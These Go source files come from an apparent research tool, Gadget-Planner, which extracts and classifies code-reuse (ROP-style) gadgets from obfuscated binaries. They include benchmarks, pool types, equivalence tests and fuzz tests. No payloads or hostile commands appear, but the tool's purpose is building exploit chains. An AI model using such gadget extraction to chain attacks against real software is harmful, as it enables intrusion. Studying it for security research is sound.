	for _, s := range warmStats {
		warmHits += s.Hits
		warmTotal += s.Hits + s.Misses
	}
	if warmTotal > 0 {
		res.WarmHitRate = float64(warmHits) / float64(warmTotal)
	}
	return res, nil
}

// statsDelta subtracts an earlier per-stage snapshot from a later one.
func statsDelta(after, before []pipeline.StageStats) []pipeline.StageStats {
	prev := make(map[string]pipeline.StageStats, len(before))
	for _, s := range before {
		prev[s.Stage] = s
	}
	out := make([]pipeline.StageStats, 0, len(after))
	for _, s := range after {
		p := prev[s.Stage]
		s.Hits -= p.Hits
		s.Misses -= p.Misses
		s.ComputeSeconds -= p.ComputeSeconds
		if s.Hits != 0 || s.Misses != 0 {
			out = append(out, s)
		}
	}
	return out
}

// RenderCacheBench prints the benchmark as a table.
func RenderCacheBench(b *CacheBench) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "cache bench: cold %.2fs, warm %.2fs (%.2fx), tables identical: %v\n",
		b.ColdSeconds, b.WarmSeconds, b.Speedup, b.TablesIdentical)
	fmt.Fprintf(&sb, "cross-experiment hits (cold pass): %d, warm hit rate: %.0f%%\n",
		b.CrossExperimentHits, 100*b.WarmHitRate)
	fmt.Fprintf(&sb, "%-10s %12s %12s %14s\n", "Stage", "Cold h/m", "Warm h/m", "Compute(s)")
	warm := make(map[string]pipeline.StageStats, len(b.WarmStages))
	for _, s := range b.WarmStages {
		warm[s.Stage] = s
	}
	for _, s := range b.ColdStages {
		w := warm[s.Stage]
		fmt.Fprintf(&sb, "%-10s %12s %12s %14.3f\n", s.Stage,
			fmt.Sprintf("%d/%d", s.Hits, s.Misses),
			fmt.Sprintf("%d/%d", w.Hits, w.Misses),
			s.ComputeSeconds)
	}
	return sb.String()
}
