package experiments

// BenchExtract is the cold-path extraction benchmark behind
// `make bench-extract`: it times gadget extraction with the shared predecode
// table against the seed's decode-per-step walk (Options.NoPredecode), on
// the obfuscated netperf-sim and on a virtualized build — the arm whose long
// handler-threaded decode paths the table helps most — and pins the two
// walks byte-identical across the determinism matrix. BENCH_EXTRACT.json is
// its JSON rendering.

import (
	"fmt"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// ExtractArm is one program's timing record.
type ExtractArm struct {
	Name      string `json:"name"`
	Passes    string `json:"passes"`
	CodeBytes int    `json:"code_bytes"`
	Gadgets   int    `json:"gadgets"`

	// Best-of-reps extraction wall time, decode table off (the seed walk)
	// vs on, single-worker and four-worker.
	TableOffP1Seconds float64 `json:"table_off_p1_seconds"`
	TableOnP1Seconds  float64 `json:"table_on_p1_seconds"`
	TableOffP4Seconds float64 `json:"table_off_p4_seconds"`
	TableOnP4Seconds  float64 `json:"table_on_p4_seconds"`

	// SpeedupP1 is the headline number: table-off over table-on at one
	// worker, where nothing but the decode strategy differs.
	SpeedupP1 float64 `json:"speedup_p1"`
	SpeedupP4 float64 `json:"speedup_p4"`
}

// ExtractBench is the full benchmark record (BENCH_EXTRACT.json).
type ExtractBench struct {
	Quick bool  `json:"quick"`
	Seed  int64 `json:"seed"`
	Reps  int   `json:"reps"`

	Arms []ExtractArm `json:"arms"`

	// Determinism: pools from the table walk and the reference walk must
	// render byte-identically (gadget.Pool.Canon) at every combination of
	// the arms below.
	ParallelismArms []int `json:"parallelism_arms"`
	StrideArms      []int `json:"stride_arms"`
	TablesIdentical bool  `json:"tables_identical"`
}

// extractBenchParallelisms and extractBenchStrides are the identity-matrix
// axes the acceptance criterion names.
var (
	extractBenchParallelisms = []int{1, 2, 8}
	extractBenchStrides      = []int{1, 2}
)

// BenchExtract runs the timing arms and the identity matrix.
func BenchExtract(opts Options) (*ExtractBench, error) {
	reps := 5
	if opts.Quick {
		reps = 1
	}
	b := &ExtractBench{
		Quick:           opts.Quick,
		Seed:            opts.Seed,
		Reps:            reps,
		ParallelismArms: append([]int(nil), extractBenchParallelisms...),
		StrideArms:      append([]int(nil), extractBenchStrides...),
		TablesIdentical: true,
	}

	arms := []struct {
		name   string
		passes []obfuscate.Pass
	}{
		{"netperf-llvmobf", obfuscate.LLVMObf()},
		{"netperf-virtualize", []obfuscate.Pass{&obfuscate.Virtualize{}}},
	}
	for _, a := range arms {
		bin, err := benchprog.Build(benchprog.Netperf(), a.passes, opts.Seed)
		if err != nil {
			return nil, err
		}
		arm := ExtractArm{Name: a.name, Passes: passNames(a.passes), CodeBytes: codeBytes(bin)}

		extract := func(par int, noTable bool) *gadget.Pool {
			return gadget.Extract(bin, gadget.Options{Parallelism: par, NoPredecode: noTable})
		}
		timeExtract := func(par int, noTable bool) float64 {
			best := time.Duration(1<<63 - 1)
			for i := 0; i < reps; i++ {
				start := time.Now()
				extract(par, noTable)
				if d := time.Since(start); d < best {
					best = d
				}
			}
			return best.Seconds()
		}
		arm.TableOffP1Seconds = timeExtract(1, true)
		arm.TableOnP1Seconds = timeExtract(1, false)
		arm.TableOffP4Seconds = timeExtract(4, true)
		arm.TableOnP4Seconds = timeExtract(4, false)
		arm.SpeedupP1 = speedup(arm.TableOffP1Seconds, arm.TableOnP1Seconds)
		arm.SpeedupP4 = speedup(arm.TableOffP4Seconds, arm.TableOnP4Seconds)
		arm.Gadgets = extract(1, false).Size()
		b.Arms = append(b.Arms, arm)

		// Identity matrix: for each stride, the single-worker reference walk
		// fixes the expected rendering; the table walk and the reference
		// walk must match it at every worker count.
		for _, stride := range extractBenchStrides {
			ref := gadget.Extract(bin, gadget.Options{
				Stride: stride, Parallelism: 1, NoPredecode: true,
			}).Canon()
			for _, par := range extractBenchParallelisms {
				for _, noTable := range []bool{false, true} {
					got := gadget.Extract(bin, gadget.Options{
						Stride: stride, Parallelism: par, NoPredecode: noTable,
					}).Canon()
					if got != ref {
						b.TablesIdentical = false
					}
				}
			}
		}
	}
	return b, nil
}

// passNames joins an obfuscation recipe's pass names.
func passNames(passes []obfuscate.Pass) string {
	names := make([]string, len(passes))
	for i, p := range passes {
		names[i] = p.Name()
	}
	return strings.Join(names, ",")
}

// codeBytes sums the executable sections' sizes.
func codeBytes(bin *sbf.Binary) int {
	n := 0
	for _, sec := range bin.ExecSections() {
		n += len(sec.Data)
	}
	return n
}

// RenderExtractBench prints the benchmark summary.
func RenderExtractBench(b *ExtractBench) string {
	var sb strings.Builder
	mode := "full"
	if b.Quick {
		mode = "quick"
	}
	fmt.Fprintf(&sb, "cold extraction (%s, best of %d, seed %d):\n", mode, b.Reps, b.Seed)
	for _, a := range b.Arms {
		fmt.Fprintf(&sb, "  %s (%s; %d code bytes, %d gadgets)\n", a.Name, a.Passes, a.CodeBytes, a.Gadgets)
		fmt.Fprintf(&sb, "    P=1: decode-per-step %s -> predecode table %s   speedup %.2fx\n",
			fmtDur(a.TableOffP1Seconds), fmtDur(a.TableOnP1Seconds), a.SpeedupP1)
		fmt.Fprintf(&sb, "    P=4: decode-per-step %s -> predecode table %s   speedup %.2fx\n",
			fmtDur(a.TableOffP4Seconds), fmtDur(a.TableOnP4Seconds), a.SpeedupP4)
	}
	fmt.Fprintf(&sb, "  pools identical across table on/off x parallelism %v x stride %v: %t\n",
		b.ParallelismArms, b.StrideArms, b.TablesIdentical)
	return sb.String()
}
