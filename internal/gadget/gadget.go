// Package gadget implements Gadget-Planner's extraction stage (paper
// Section IV-B): decoding gadget candidates from every byte offset of the
// executable sections (finding unaligned gadgets), classifying them by
// termination (Table I), following and merging direct jumps, forking on
// conditional jumps (Fig. 4), and attaching the symbolic Table II record via
// symex.
package gadget

import (
	"fmt"
	"sort"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// JmpType classifies a gadget by its control-flow shape (Table I).
type JmpType uint8

// Gadget classes.
const (
	TypeInvalid JmpType = iota
	TypeReturn          // ends with ret
	TypeUDJ             // unconditional direct jump
	TypeUIJ             // unconditional indirect jump (jmp/call reg or mem)
	TypeCDJ             // conditional, ends direct
	TypeCIJ             // conditional, ends indirect
	TypeSyscall         // ends with syscall
)

var _jmpTypeNames = map[JmpType]string{
	TypeReturn: "Return", TypeUDJ: "UDJ", TypeUIJ: "UIJ",
	TypeCDJ: "CDJ", TypeCIJ: "CIJ", TypeSyscall: "Syscall",
}

// String names the class as in the paper's Table I.
func (t JmpType) String() string {
	if n, ok := _jmpTypeNames[t]; ok {
		return n
	}
	return fmt.Sprintf("JmpType(%d)", uint8(t))
}

// Gadget is one usable gadget with its Table II record.
type Gadget struct {
	// ID is the gadget's index in its pool.
	ID int
	// Location is the address of the first instruction (Table II).
	Location uint64
	// Len is the gadget length in bytes across all merged pieces (Table II).
	Len int
	// JmpType is the terminal jump classification (Table II).
	JmpType JmpType
	// Steps are the instructions along the gadget's path, with branch
	// directions for the conditional jumps passed through.
	Steps []symex.Step
	// Effect is the symbolic summary: post-conditions (register values,
	// stack writes, next RIP) and pre-conditions (path constraints).
	Effect *symex.Effect
	// ClobRegs are registers whose contents are overwritten (Table II).
	ClobRegs []isa.Reg
	// CtrlRegs are registers that end up holding an attacker-controlled
	// stack value (Table II's "can be controlled through the gadget").
	CtrlRegs []isa.Reg
	// Merged reports whether the gadget crosses a direct jump.
	Merged bool
	// HasCond reports whether the path passes through a conditional jump.
	HasCond bool
}

// NumInsts returns the instruction count along the gadget path.
func (g *Gadget) NumInsts() int { return len(g.Steps) }

// String renders "addr: inst; inst; ..." for diagnostics and reports, in
// the default backend's syntax. Use StringOn for a non-x64 gadget.
func (g *Gadget) String() string {
	return g.StringOn(isa.X64)
}

// StringOn renders the gadget with the given backend's instruction
// formatter — RV gadgets print RISC-V assembly rather than x64 mnemonics.
func (g *Gadget) StringOn(be isa.Backend) string {
	s := fmt.Sprintf("%#x:", g.Location)
	for _, st := range g.Steps {
		s += " " + be.FormatInst(&st.Inst) + ";"
	}
	return s
}

// Classify computes the Table I class from the gadget's path shape.
func Classify(steps []symex.Step, end symex.EndKind) JmpType {
	hasCond := false
	for i := range steps {
		if op := steps[i].Inst.Op; op == isa.OpJcc || op == isa.OpBcc {
			hasCond = true
		}
	}
	switch end {
	case symex.EndRet:
		return TypeReturn
	case symex.EndSyscall:
		return TypeSyscall
	case symex.EndJmpInd, symex.EndCallInd:
		if hasCond {
			return TypeCIJ
		}
		return TypeUIJ
	case symex.EndJmpDir:
		if hasCond {
			return TypeCDJ
		}
		return TypeUDJ
	}
	return TypeInvalid
}

// Pool is the gadget library for one binary: the searchable, register-indexed
// collection the planner draws from (paper Section V).
type Pool struct {
	// Builder owns every expression in the pool's effects.
	Builder *expr.Builder
	// ISA is the canonical backend name the pool was extracted under
	// ("x64", "rv64", "rv64c"). Empty is read as the default x64, so pools
	// decoded from pre-multi-ISA artifacts stay valid.
	ISA string
	// Gadgets lists all usable gadgets, ID-indexed.
	Gadgets []*Gadget
	// ByReg indexes gadgets by the registers their effect writes.
	ByReg map[isa.Reg][]*Gadget
	// Syscalls lists syscall-terminated gadgets (attack goal anchors).
	Syscalls []*Gadget
	// Stats summarizes extraction.
	Stats Stats
}

// Stats counts extraction outcomes.
type Stats struct {
	// ScannedOffsets is how many byte offsets were tried as gadget starts.
	ScannedOffsets int
	// RawCandidates is how many branch-terminated sequences were decodable.
	RawCandidates int
	// Supported is how many candidates symex could model (pool size before
	// subsumption).
	Supported int
	// Unsupported counts candidates rejected by the symbolic executor.
	Unsupported int
	// MergedGadgets counts pool gadgets built across direct jumps.
	MergedGadgets int
	// ByType counts raw candidates per Table I class. (For a pool narrowed
	// by core.Config.GadgetFilter it instead counts the pooled gadgets per
	// class, so the stats describe what the filter kept.)
	ByType map[JmpType]int
}

// merge adds another stats record into s (shard aggregation).
func (s *Stats) merge(o Stats) {
	s.ScannedOffsets += o.ScannedOffsets
	s.RawCandidates += o.RawCandidates
	s.Supported += o.Supported
	s.Unsupported += o.Unsupported
	s.MergedGadgets += o.MergedGadgets
	for t, n := range o.ByType {
		s.ByType[t] += n
	}
}

// add inserts a gadget into the pool and its indexes.
func (p *Pool) add(g *Gadget) {
	g.ID = len(p.Gadgets)
	p.Gadgets = append(p.Gadgets, g)
	if g.JmpType == TypeSyscall {
		p.Syscalls = append(p.Syscalls, g)
	}
	for _, r := range g.ClobRegs {
		p.ByReg[r] = append(p.ByReg[r], g)
	}
}

// Size returns the number of usable gadgets.
func (p *Pool) Size() int { return len(p.Gadgets) }

// Backend resolves the pool's ISA backend; empty or unknown names resolve to
// the default x64 backend.
func (p *Pool) Backend() isa.Backend {
	be, ok := isa.ByName(p.ISA)
	if !ok {
		return isa.X64
	}
	return be
}

// Canon renders everything a pool consumer can observe — per-gadget record
// fields, path steps with branch directions, the full symbolic effect
// (clobbered-register expressions, stack writes by ascending offset, inputs,
// memory accesses, path conditions, next RIP), and the extraction stats — as
// one deterministic string. Two pools with equal Canon renderings are
// interchangeable to every downstream stage; the predecode equivalence tests
// and the extraction benchmark's identity matrix compare pools through it.
func (p *Pool) Canon() string {
	var sb strings.Builder
	be := p.Backend()
	// The backend line appears only for non-default pools, keeping every
	// pre-multi-ISA x64 canon rendering (and the hashes pinned on it)
	// byte-identical.
	if name := be.Name(); name != isa.DefaultISA {
		fmt.Fprintf(&sb, "isa=%s\n", name)
	}
	s := p.Stats
	fmt.Fprintf(&sb, "stats scanned=%d raw=%d supported=%d unsupported=%d merged=%d bytype=",
		s.ScannedOffsets, s.RawCandidates, s.Supported, s.Unsupported, s.MergedGadgets)
	for t := TypeReturn; t <= TypeSyscall; t++ {
		if n := s.ByType[t]; n != 0 {
			fmt.Fprintf(&sb, " %s=%d", t, n)
		}
	}
	fmt.Fprintf(&sb, "\ngadgets=%d syscalls=%d\n", len(p.Gadgets), len(p.Syscalls))
	for _, g := range p.Gadgets {
		eff := g.Effect
		fmt.Fprintf(&sb, "%d @%#x len=%d type=%s merged=%t cond=%t delta=%d end=%d\n",
			g.ID, g.Location, g.Len, g.JmpType, g.Merged, g.HasCond, eff.StackDelta, eff.End)
		sb.WriteString("  steps:")
		for _, st := range g.Steps {
			fmt.Fprintf(&sb, " [%#x %s", st.Inst.Addr, be.FormatInst(&st.Inst))
			if st.Inst.Op == isa.OpJcc || st.Inst.Op == isa.OpBcc {
				fmt.Fprintf(&sb, " taken=%t", st.Taken)
			}
			sb.WriteByte(']')
		}
		sb.WriteByte('\n')
		for _, r := range g.ClobRegs {
			fmt.Fprintf(&sb, "  %s=%s\n", be.RegName(r), eff.Regs[r])
		}
		// Rendered by hand with backend names; matches %v on []isa.Reg for x64.
		sb.WriteString("  ctrl=[")
		for i, r := range g.CtrlRegs {
			if i > 0 {
				sb.WriteByte(' ')
			}
			sb.WriteString(be.RegName(r))
		}
		sb.WriteString("]\n")
		if len(eff.StackWrites) > 0 {
			offs := make([]int64, 0, len(eff.StackWrites))
			for o := range eff.StackWrites {
				offs = append(offs, o)
			}
			sort.Slice(offs, func(i, j int) bool { return offs[i] < offs[j] })
			for _, off := range offs {
				w := eff.StackWrites[off]
				fmt.Fprintf(&sb, "  stk[%d]=%s sz=%d\n", off, w.Val, w.Size)
			}
		}
		if len(eff.Inputs) > 0 {
			offs := make([]int64, 0, len(eff.Inputs))
			for o := range eff.Inputs {
				offs = append(offs, o)
			}
			sort.Slice(offs, func(i, j int) bool { return offs[i] < offs[j] })
			for _, off := range offs {
				fmt.Fprintf(&sb, "  in[%d] sz=%d\n", off, eff.Inputs[off])
			}
		}
		for _, a := range eff.MemReads {
			fmt.Fprintf(&sb, "  rd *(%s)=%s sz=%d\n", a.Addr, a.Val, a.Size)
		}
		for _, a := range eff.MemWrites {
			fmt.Fprintf(&sb, "  wr *(%s)=%s sz=%d\n", a.Addr, a.Val, a.Size)
		}
		for _, c := range eff.Conds {
			fmt.Fprintf(&sb, "  cond %s\n", c)
		}
		fmt.Fprintf(&sb, "  rip=%s\n", eff.NextRIP)
	}
	return sb.String()
}

// fillRecord computes the ClobRegs/CtrlRegs fields from the effect.
func fillRecord(b *expr.Builder, g *Gadget, be isa.Backend) {
	eff := g.Effect
	sp := be.SP()
	zero, hasZero := be.ZeroReg()
	for ri := range eff.Regs {
		r := isa.Reg(ri)
		if r == sp {
			continue // stack-pointer movement is tracked by StackDelta
		}
		if hasZero && r == zero {
			continue // the hardwired zero register is never clobbered
		}
		initial := b.Var(symex.RegVarNameOn(be, r), 64)
		if eff.Regs[r] == initial {
			continue
		}
		g.ClobRegs = append(g.ClobRegs, r)
		if v := eff.Regs[r]; v.Kind == expr.KindVar && symex.IsAttackerVar(v.Name) {
			g.CtrlRegs = append(g.CtrlRegs, r)
		}
	}
	sort.Slice(g.ClobRegs, func(i, j int) bool { return g.ClobRegs[i] < g.ClobRegs[j] })
	sort.Slice(g.CtrlRegs, func(i, j int) bool { return g.CtrlRegs[i] < g.CtrlRegs[j] })
}
