package gadget_test

import (
	"fmt"
	"reflect"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// equivBinary is one corpus program for the predecode equivalence matrix.
type equivBinary struct {
	name string
	bin  *sbf.Binary
}

// equivBinaries builds the equivalence corpus: the netperf-sim benchmark
// under the LLVM-style preset, and a generated MiniC program under the
// Tigress-style preset (which includes virtualization, the arm with the
// longest decode paths).
func equivBinaries(tb testing.TB) []equivBinary {
	tb.Helper()
	np, err := benchprog.Build(benchprog.Netperf(), obfuscate.LLVMObf(), 42)
	if err != nil {
		tb.Fatal(err)
	}
	cls, ok := benchprog.SizeClassByName("small")
	if !ok {
		tb.Fatal("size class small missing")
	}
	gen, err := benchprog.Build(benchprog.Generate(7, cls), obfuscate.Tigress(), 7)
	if err != nil {
		tb.Fatal(err)
	}
	return []equivBinary{
		{name: "netperf-llvmobf", bin: np},
		{name: "gen-small-tigress", bin: gen},
	}
}

// firstDiff locates the first byte where two canonical renderings diverge.
func firstDiff(a, b string) string {
	n := min(len(a), len(b))
	for i := 0; i < n; i++ {
		if a[i] != b[i] {
			lo := max(i-60, 0)
			return fmt.Sprintf("byte %d:\n  ref: %q\n  got: %q", i, a[lo:min(i+60, len(a))], b[lo:min(i+60, len(b))])
		}
	}
	return fmt.Sprintf("length %d vs %d", len(a), len(b))
}

// TestPredecodeExtractionEquivalence pins the predecode-table walk
// byte-identical to the retained reference walk (Options.NoPredecode, which
// re-invokes isa.Decode at every path step) across the full determinism
// matrix: both corpus programs, stride 1 and 2, and one, two, and eight
// workers. Canon renders everything downstream consumers can observe, so
// equal renderings mean the table is purely an optimization.
func TestPredecodeExtractionEquivalence(t *testing.T) {
	for _, eb := range equivBinaries(t) {
		for _, stride := range []int{1, 2} {
			ref := gadget.Extract(eb.bin, gadget.Options{
				Stride: stride, Parallelism: 1, NoPredecode: true,
			}).Canon()
			for _, par := range []int{1, 2, 8} {
				got := gadget.Extract(eb.bin, gadget.Options{
					Stride: stride, Parallelism: par,
				}).Canon()
				if got != ref {
					t.Errorf("%s stride=%d parallelism=%d: predecode pool differs from reference walk at %s",
						eb.name, stride, par, firstDiff(ref, got))
				}
			}
			// The reference arm must itself be parallel-stable.
			if got := gadget.Extract(eb.bin, gadget.Options{
				Stride: stride, Parallelism: 8, NoPredecode: true,
			}).Canon(); got != ref {
				t.Errorf("%s stride=%d: reference walk differs across parallelism at %s",
					eb.name, stride, firstDiff(ref, got))
			}
		}
	}
}

// refCount is the seed's Count loop: decode afresh from every byte offset
// until the first branch and classify it. Count now chains through the
// predecode table; this reference pins the fold.
func refCount(bin *sbf.Binary, maxInsts int) map[gadget.JmpType]int {
	counts := make(map[gadget.JmpType]int)
	for _, sec := range bin.ExecSections() {
		for off := 0; off < len(sec.Data); off++ {
			code := sec.Data[off:]
			pos := 0
			hasCond := false
			for n := 0; n < maxInsts; n++ {
				inst, err := isa.Decode(code[pos:], sec.Addr+uint64(off+pos))
				if err != nil {
					break
				}
				pos += int(inst.Len)
				var t gadget.JmpType
				switch {
				case inst.Op == isa.OpRet:
					t = gadget.TypeReturn
				case inst.Op == isa.OpSyscall:
					t = gadget.TypeSyscall
				case inst.Op == isa.OpJmp && inst.A.Kind == isa.KindImm:
					t = gadget.TypeUDJ
					if hasCond {
						t = gadget.TypeCDJ
					}
				case (inst.Op == isa.OpJmp || inst.Op == isa.OpCall) && inst.A.Kind != isa.KindImm:
					t = gadget.TypeUIJ
					if hasCond {
						t = gadget.TypeCIJ
					}
				case inst.Op == isa.OpCall:
					t = gadget.TypeInvalid
				case inst.Op == isa.OpJcc:
					hasCond = true
					continue
				default:
					continue
				}
				if t != gadget.TypeInvalid {
					counts[t]++
				}
				break
			}
		}
	}
	return counts
}

// TestCountMatchesReference pins the table-folded Count against the seed's
// decode-per-window loop on both corpus programs, at the default window and
// a deeper one.
func TestCountMatchesReference(t *testing.T) {
	for _, eb := range equivBinaries(t) {
		for _, maxInsts := range []int{10, 25} {
			want := refCount(eb.bin, maxInsts)
			got := gadget.Count(eb.bin, maxInsts)
			if !reflect.DeepEqual(got, want) {
				t.Errorf("%s maxInsts=%d: Count = %v, want %v", eb.name, maxInsts, got, want)
			}
		}
	}
}

// FuzzPredecode asserts that every table entry matches a direct isa.Decode
// call at that offset: same validity verdict, and — isa.Inst being a
// comparable value struct — the identical decoded instruction.
func FuzzPredecode(f *testing.F) {
	f.Add([]byte{0xc3})
	f.Add([]byte{0x5f, 0xc3})                                  // pop rdi; ret
	f.Add([]byte{0x0f})                                        // truncated two-byte opcode
	f.Add([]byte{0x48, 0xb8, 0, 0, 0, 0, 0, 0x58, 0xc3, 0x00}) // movabs hiding pop/ret
	f.Add([]byte{0xeb, 0xfe, 0xcc, 0x90, 0xff, 0xe0})
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) == 0 {
			return
		}
		if len(data) > 4096 {
			data = data[:4096]
		}
		const base = 0x401000
		bin := sbf.New()
		bin.AddSection(sbf.Section{
			Name: ".text", Addr: base, Flags: sbf.FlagRead | sbf.FlagExec, Data: data,
		})
		tab := gadget.Predecode(bin, 2)
		for off := range data {
			addr := base + uint64(off)
			got, ok := tab.InstAt(addr)
			want, err := isa.Decode(data[off:], addr)
			if err != nil {
				if ok {
					t.Fatalf("offset %d: table has %v, direct decode errors: %v", off, got, err)
				}
				continue
			}
			if !ok {
				t.Fatalf("offset %d: table invalid, direct decode gives %v", off, want)
			}
			if got != want {
				t.Fatalf("offset %d: table %+v != decode %+v", off, got, want)
			}
		}
	})
}
