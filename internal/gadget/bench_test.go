package gadget_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

func benchBinary(b *testing.B) *sbf.Binary {
	b.Helper()
	bin, err := benchprog.Build(benchprog.Netperf(), obfuscate.LLVMObf(), 42)
	if err != nil {
		b.Fatal(err)
	}
	return bin
}

// baselineNs times fn (best of three) for the speedup metric; nested
// testing.Benchmark would deadlock on the benchmark lock.
func baselineNs(fn func()) float64 {
	best := time.Duration(1<<63 - 1)
	for i := 0; i < 3; i++ {
		start := time.Now()
		fn()
		if d := time.Since(start); d < best {
			best = d
		}
	}
	return float64(best.Nanoseconds())
}

// BenchmarkExtractParallel measures sharded extraction on obfuscated
// netperf-sim at several worker counts, reporting speedup versus the
// single-worker baseline (the "speedup-x" metric; ~1.0 on one core).
func BenchmarkExtractParallel(b *testing.B) {
	bin := benchBinary(b)
	baseline := baselineNs(func() {
		gadget.Extract(bin, gadget.Options{Parallelism: 1})
	})

	for _, par := range []int{1, 2, 4} {
		b.Run(fmt.Sprintf("parallelism=%d", par), func(b *testing.B) {
			b.ReportAllocs()
			var size int
			for i := 0; i < b.N; i++ {
				pool := gadget.Extract(bin, gadget.Options{Parallelism: par})
				size = pool.Size()
			}
			if size == 0 {
				b.Fatal("empty pool")
			}
			perOp := float64(b.Elapsed().Nanoseconds()) / float64(b.N)
			b.ReportMetric(baseline/perOp, "speedup-x")
		})
	}
}

// BenchmarkExtractPredecode is the table A/B arm: the same single-worker
// extraction with the shared predecode table on (the default) and off (the
// seed's decode-per-step walk). Allocation counts make the walker's
// buffer-freelist and hashed-dedup savings visible alongside the time.
func BenchmarkExtractPredecode(b *testing.B) {
	bin := benchBinary(b)
	for _, noTable := range []bool{false, true} {
		name := "table=on"
		if noTable {
			name = "table=off"
		}
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				pool := gadget.Extract(bin, gadget.Options{Parallelism: 1, NoPredecode: noTable})
				if pool.Size() == 0 {
					b.Fatal("empty pool")
				}
			}
		})
	}
}

// BenchmarkSymexPaths measures symbolic execution over every pooled gadget
// path, comparing the one-shot Exec (fresh state per path) against the
// reusable Executor the extraction shards use.
func BenchmarkSymexPaths(b *testing.B) {
	bin := benchBinary(b)
	pool := gadget.Extract(bin, gadget.Options{Parallelism: 1})
	paths := make([][]symex.Step, len(pool.Gadgets))
	for i, g := range pool.Gadgets {
		paths[i] = g.Steps
	}

	b.Run("exec", func(b *testing.B) {
		b.ReportAllocs()
		eb := expr.NewBuilder()
		for i := 0; i < b.N; i++ {
			for _, steps := range paths {
				if _, err := symex.Exec(eb, steps); err != nil {
					b.Fatal(err)
				}
			}
		}
	})
	b.Run("executor", func(b *testing.B) {
		b.ReportAllocs()
		ex := symex.NewExecutor(expr.NewBuilder())
		for i := 0; i < b.N; i++ {
			for _, steps := range paths {
				if _, err := ex.Exec(steps); err != nil {
					b.Fatal(err)
				}
			}
		}
	})
}
