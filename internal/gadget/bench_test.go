package gadget_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

func benchBinary(b *testing.B) *sbf.Binary {
	b.Helper()
	bin, err := benchprog.Build(benchprog.Netperf(), obfuscate.LLVMObf(), 42)
	if err != nil {
		b.Fatal(err)
	}
	return bin
}

// baselineNs times fn (best of three) for the speedup metric; nested
// testing.Benchmark would deadlock on the benchmark lock.
func baselineNs(fn func()) float64 {
	best := time.Duration(1<<63 - 1)
	for i := 0; i < 3; i++ {
		start := time.Now()
		fn()
		if d := time.Since(start); d < best {
			best = d
		}
	}
	return float64(best.Nanoseconds())
}

// BenchmarkExtractParallel measures sharded extraction on obfuscated
// netperf-sim at several worker counts, reporting speedup versus the
// single-worker baseline (the "speedup-x" metric; ~1.0 on one core).
func BenchmarkExtractParallel(b *testing.B) {
	bin := benchBinary(b)
	baseline := baselineNs(func() {
		gadget.Extract(bin, gadget.Options{Parallelism: 1})
	})

	for _, par := range []int{1, 2, 4} {
		b.Run(fmt.Sprintf("parallelism=%d", par), func(b *testing.B) {
			var size int
			for i := 0; i < b.N; i++ {
				pool := gadget.Extract(bin, gadget.Options{Parallelism: par})
				size = pool.Size()
			}
			if size == 0 {
				b.Fatal("empty pool")
			}
			perOp := float64(b.Elapsed().Nanoseconds()) / float64(b.N)
			b.ReportMetric(baseline/perOp, "speedup-x")
		})
	}
}
