package gadget

import (
	"sync"

	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/wall"
)

// instSource resolves the instruction decoded at a virtual address, or
// reports that no executable section covers it / the bytes there do not
// decode. It is the walker's only view of the binary: the predecode Table
// serves lookups from a shared read-only array, while the legacy fetcher
// (Options.NoPredecode, the benchmark A/B arm and the equivalence tests'
// reference) re-invokes isa.Decode on every call.
//
// The pointer return avoids copying the ~88-byte Inst per lookup (the walk
// touches one per step per path, and duffcopy dominated the profile). The
// table returns a pointer into its shared array; the fetcher decodes into
// *scratch and returns scratch. Either way the pointee must be treated as
// read-only and is only valid until the next call with the same scratch.
type instSource interface {
	inst(addr uint64, scratch *isa.Inst) (*isa.Inst, bool)
}

// Table is the per-section predecode table: one isa.Inst per byte offset of
// every executable section, decoded in a single O(n) pass and shared
// read-only by all scan workers. The walk, the fork/merge path enumeration,
// and Count then chain through the table by addr + inst.Len instead of
// re-invoking isa.Decode at every path step from every start offset — the
// extraction decode cost drops from O(n · pathLen) to O(n), and instruction
// suffixes shared between overlapping start offsets are decoded exactly
// once.
//
// Entries are stored as a flat []isa.Inst per section, indexed by byte
// offset; an entry with Len == 0 marks an offset whose bytes do not decode
// (every valid decode consumes at least one byte). Entry contents are a
// pure function of the section bytes, so the table — and everything walked
// through it — is deterministic regardless of how many workers built it.
//
// Memory: one Inst (~88 bytes) per code byte. The corpus binaries measure
// their code in tens to hundreds of KiB, so a table is a few MiB at most
// and lives only for the duration of one extraction or count.
type Table struct {
	secs  []*sbf.Section // ascending by Addr (sbf keeps sections sorted)
	insts [][]isa.Inst   // insts[i][off] decodes secs[i].Data[off:]; Len==0 invalid

	// Single-section fast path: nearly every corpus binary has exactly one
	// executable section, and inst() is the hottest call in extraction.
	soloAddr, soloEnd uint64
	solo              []isa.Inst // nil when the binary has several sections
}

// predecodeChunk is how many byte offsets one predecode job covers. Like
// chunkStrides, it is fixed so the work partition never depends on the
// worker count; unlike the scan shards, entries are independent, so the
// only requirement is a chunk big enough to amortize dispatch.
const predecodeChunk = 64 << 10

